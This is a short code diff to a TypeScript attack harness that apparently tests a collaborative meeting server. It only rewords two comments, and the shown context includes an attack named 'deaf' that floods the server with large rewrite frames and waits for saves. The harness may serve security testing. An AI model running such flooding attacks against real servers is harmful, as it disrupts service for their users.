@@ -32,7 +32,7 @@ const presenceFrame = (meeting: string, client: number, state: string) => {
   const states = Buffer.concat([Buffer.from([1, ...varUint(client), 1]), text(JSON.stringify(state))]);
   return Buffer.concat([text(meeting), Buffer.from([1, ...varUint(states.length)]), states]);
 };
-/** Prefix of the reply to a successful sign-in. */
+/** Prefix of the server's reply to a successful sign-in. */
 const letIn = (meeting: string) => Buffer.concat([text(meeting), Buffer.from([2, 2])]);
 
 const newMeeting = async (target: AttackTarget, token: string): Promise<string> => {
@@ -254,7 +254,7 @@ const deaf: Attack = {
     const next = createRewrites(250_000);
     for (let n = 0; n < 60; n++) {
       writer.send(updateFrame(meeting, next()));
-      // The server counts deletions until the document is stored, so this waits for the save.
+      // The server counts deletions until the document is stored, so the attack waits for the save.
       await pause(600);
     }
     const isWriting = await Promise.race([writer.closed.then(() => false), pause(6_000, true)]);
